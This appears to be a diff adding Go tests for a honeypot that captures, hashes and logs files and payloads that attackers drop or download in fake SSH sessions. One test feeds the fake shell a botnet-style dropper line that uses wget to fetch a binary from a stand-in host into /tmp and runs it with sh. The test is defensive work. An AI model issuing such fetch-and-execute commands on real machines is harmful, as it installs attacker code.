@@ -0,0 +1,140 @@
+package honeypot
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"phantom-grid/internal/honeypot/fetch"
+)
+
+func TestCaptureArtifacts(t *testing.T) {
+	chdirTemp(t)
+	logChan := make(chan string, 100)
+	h := NewHandler(logChan)
+	h.fs.ArtifactDir = filepath.Join(t.TempDir(), "artifacts")
+
+	// Two attackers dropping the same payload, one of them also an empty file
+	for _, ip := range []string{"203.0.113.9", "203.0.113.10"} {
+		fsys := h.sessionFS()
+		fsys.WriteFile("/tmp/bot", []byte("payload"), 0755)
+		fsys.WriteFile("/tmp/empty", nil, 0644)
+		h.captureArtifacts(fsys, "SSH", ip, "12:00:00")
+	}
+
+	const hash = "239f59ed55e737c77147cf55ad0c1b030b6d7ee748a7426952f9b852d5a935e5"
+	for _, ip := range []string{"203.0.113.9", "203.0.113.10"} {
+		want := "SSH ARTIFACT: " + ip + " | Path: /tmp/bot | Size: 7 | SHA256: " + hash + " | Removed: false"
+		if got := <-logChan; !strings.Contains(got, want) {
+			t.Errorf("log = %q, want %q", got, want)
+		}
+	}
+	if len(logChan) != 0 {
+		t.Errorf("unexpected log %q", <-logChan)
+	}
+
+	entries, err := os.ReadDir(h.fs.ArtifactDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(entries) != 2 || entries[0].Name() != hash || entries[1].Name() != hash+".json" {
+		t.Fatalf("artifact dir = %v, want only %s and its metadata", entries, hash)
+	}
+	p := filepath.Join(h.fs.ArtifactDir, hash)
+	if data, _ := os.ReadFile(p); string(data) != "payload" {
+		t.Errorf("stored artifact = %q", data)
+	}
+	if fi, _ := os.Stat(p); fi.Mode().Perm() != 0400 {
+		t.Errorf("stored artifact mode = %v, want 0400", fi.Mode())
+	}
+
+	meta := readMeta(t, p+".json")
+	if meta.SHA256 != hash || meta.Size != 7 || len(meta.Sightings) != 2 {
+		t.Fatalf("metadata = %+v, want both sightings", meta)
+	}
+	if s := meta.Sightings[1]; s.IP != "203.0.113.10" || s.Service != "SSH" || s.Path != "/tmp/bot" {
+		t.Errorf("sighting = %+v", s)
+	}
+
+	// Sessions do not see each other's files
+	if _, err := h.sessionFS().Stat("/tmp/bot"); err == nil {
+		t.Error("new session sees a file written by another")
+	}
+}
+
+func readMeta(t *testing.T, p string) artifactMeta {
+	t.Helper()
+	data, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var meta artifactMeta
+	if err := json.Unmarshal(data, &meta); err != nil {
+		t.Fatal(err)
+	}
+	return meta
+}
+
+func TestFetchPayload(t *testing.T) {
+	chdirTemp(t)
+	// The stand-in answers as the egress proxy, for every URL
+	var requests []string
+	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests = append(requests, r.URL.String()+" "+r.UserAgent())
+		if r.URL.Path != "/bins/x86" {
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "text/x-sh")
+		w.Write([]byte("echo pwned\n"))
+	}))
+	defer proxy.Close()
+
+	logChan := make(chan string, 100)
+	h := NewHandler(logChan)
+	h.fs.ArtifactDir = t.TempDir()
+	proxyURL, _ := url.Parse(proxy.URL)
+	h.fetcher = &fetch.Fetcher{Proxy: proxyURL, MaxBytes: 1 << 20, Timeout: 5 * time.Second}
+
+	sh := h.newFakeShell(h.sessionFS(), "SSH", "203.0.113.9", "12:00:00")
+	sh.Sleep = func(time.Duration) {}
+	var out bytes.Buffer
+	sh.execute(&out, "cd /tmp; wget -q http://198.51.100.3/bins/x86 -O .x; sh .x; wget -q http://198.51.100.3/nope")
+	if out.String() != "pwned\n" {
+		t.Errorf("output = %q, want the payload run", out.String())
+	}
+	if strings.Join(requests, "\n") != "http://198.51.100.3/bins/x86 Wget/1.20.3 (linux-gnu)\nhttp://198.51.100.3/nope Wget/1.20.3 (linux-gnu)" {
+		t.Errorf("proxy requests = %q", requests)
+	}
+
+	const hash = "33512980d598fb73560910c9cf955332050366f9c25619c47ab9d14f329c195c"
+	var logs []string
+	for len(logChan) > 0 {
+		logs = append(logs, <-logChan)
+	}
+	all := strings.Join(logs, "\n")
+	for _, want := range []string{
+		"SSH DOWNLOAD: 203.0.113.9 | URL: http://198.51.100.3/bins/x86",
+		"SSH PAYLOAD: 203.0.113.9 | URL: http://198.51.100.3/bins/x86 | Size: 11 | SHA256: " + hash + " | Type: text/x-sh",
+		"SSH DOWNLOAD: 203.0.113.9 | URL: http://198.51.100.3/nope",
+	} {
+		if !strings.Contains(all, want) {
+			t.Errorf("logs missing %q:\n%s", want, all)
+		}
+	}
+	if strings.Count(all, "PAYLOAD") != 1 {
+		t.Errorf("error page logged as a payload:\n%s", all)
+	}
+
+	meta := readMeta(t, filepath.Join(h.fs.ArtifactDir, hash+".json"))
+	if len(meta.Sightings) != 1 || meta.Sightings[0].URL != "http://198.51.100.3/bins/x86" || meta.Sightings[0].ContentType != "text/x-sh" {
+		t.Errorf("metadata = %+v", meta)
+	}
+}